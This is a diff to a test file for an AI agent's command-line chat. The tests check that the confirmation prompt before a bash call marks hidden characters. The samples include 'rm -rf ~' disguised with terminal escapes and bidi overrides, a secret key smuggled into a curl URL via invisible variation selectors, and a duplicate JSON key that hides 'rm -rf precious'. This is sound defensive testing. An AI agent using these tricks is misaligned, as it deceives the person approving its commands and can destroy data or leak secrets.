@@ -3,9 +3,11 @@
 import asyncio
 import json
 import os
+import re
 import unicodedata
 
 import pexpect
+import pytest
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
 from test_cli_chat import ask, start_chat
@@ -56,9 +58,9 @@ def test_every_line_from_a_tool_or_the_model_is_made_visible():
     assert lines[2].startswith("agent> Done.\nsafe\\x1b[2K\\r")
 
 
-def test_the_confirmation_shows_the_command_that_would_run_with_its_hidden_characters_marked(tmp_path):
-    command = "echo safe \x1b[2K\r\x9b1A\u202e\u2066 rm -rf ~ \u2069\u200b"
-    model = ScriptedModel([ToolCall("bash", json.dumps({"command": command}, ensure_ascii=False)), "ok"])
+def confirmation(tmp_path, arguments: str) -> tuple[str, list[str]]:
+    """The question the chat asks before a bash call with `arguments` (answered no), and the lines it printed."""
+    model = ScriptedModel([ToolCall("bash", arguments), "ok"])
     prompts, printed, answers = [], [], iter(["", "n", "/exit"])
 
     def read(prompt: str) -> str:
@@ -66,7 +68,12 @@ def test_the_confirmation_shows_the_command_that_would_run_with_its_hidden_chara
         return next(answers)
 
     asyncio.run(chat(offline_client(model), "offline", open_workspace(tmp_path), Terminal(read, printed.append)))
-    question = prompts[2]
+    return prompts[2], printed
+
+
+def test_the_confirmation_shows_the_command_that_would_run_with_its_hidden_characters_marked(tmp_path):
+    command = "echo safe \x1b[2K\r\x9b1A\u202e\u2066 rm -rf ~ \u2069\u200b"
+    question, printed = confirmation(tmp_path, json.dumps({"command": command}, ensure_ascii=False))
     assert question.startswith("Allow bash ") and question.endswith("? [y/N] ")
     assert not hidden_characters(question + "".join(printed))
     assert "<U+202E><U+2066> rm -rf ~ <U+2069><U+200B>" in question and "\\u009b1A" in question
@@ -99,3 +106,38 @@ def test_a_file_with_escapes_and_invalid_utf8_cannot_repaint_the_terminal(tmp_pa
     assert "(Asia/Tokyo)\nagent> " in ask(child, "What time is it in Tokyo?"), "the chat answers the next request"
     child.sendline("/exit")
     child.expect(pexpect.EOF)
+
+
+SMUGGLED = "".join(chr(0xFE00 + byte % 16) if byte < 16 else chr(0xE0100 + byte - 16) for byte in b"key=sk-123")
+"""`key=sk-123` hidden in variation selectors, one per byte: drawn as nothing after the character before them."""
+
+
+def test_variation_selectors_cannot_hide_a_message_in_a_command(tmp_path):
+    command = f"curl https://example.com/?q=ok{SMUGGLED}"
+    shown = visible(command)
+    assert shown.startswith("curl https://example.com/?q=ok<U+") and not hidden_characters(shown)
+    assert len(re.findall(r"<U\+[0-9A-F]+>", shown)) == len(SMUGGLED), "each selector is marked"
+    assert visible("I \u2764\ufe0f tea \u263a\ufe0e") == "I \u2764\ufe0f tea \u263a\ufe0e", "an emoji's style is kept"
+    assert visible("\u2764\ufe0f\ufe0f") == "\u2764\ufe0f<U+FE0F>", "but only one, right after a symbol"
+
+
+@pytest.mark.parametrize("invisible", ["\u17b4", "\u180b", "\U0001d173", "\u2065", "\ufff0", "\U000e01ef", "\u3164"])
+def test_every_default_ignorable_character_is_marked(invisible):
+    assert visible(f"rm{invisible} -rf") == f"rm<U+{ord(invisible):04X}> -rf"
+
+
+@pytest.mark.parametrize("space", ["\u00a0", "\u2002", "\u2009", "\u202f", "\u3000", "\u2800", "\u1680"])
+def test_the_confirmation_marks_spaces_bash_does_not_split_on(tmp_path, space):
+    # `rm\u00a0-rf` is one word to bash; shown as a space, the person would read two.
+    command = f"ls{space}-la ; echo{space}done"
+    question, printed = confirmation(tmp_path, json.dumps({"command": command}, ensure_ascii=False))
+    mark = f"<U+{ord(space):04X}>"
+    assert f"ls{mark}-la ; echo{mark}done" in question and space not in question
+    assert any(line.startswith("  -> bash ") and f"ls{mark}-la" in line for line in printed)
+    assert visible(f"日本{space}語") == f"日本{space}語", "an answer keeps its spaces"
+
+
+def test_a_repeated_argument_is_confirmed_as_the_value_that_runs(tmp_path):
+    # JSON with a key twice: a parser keeps the last. The question must show that one, not the harmless first.
+    question, _ = confirmation(tmp_path, '{"command": "echo harmless", "command": "rm -rf precious"}')
+    assert question == 'Allow bash {"command": "rm -rf precious"}? [y/N] '
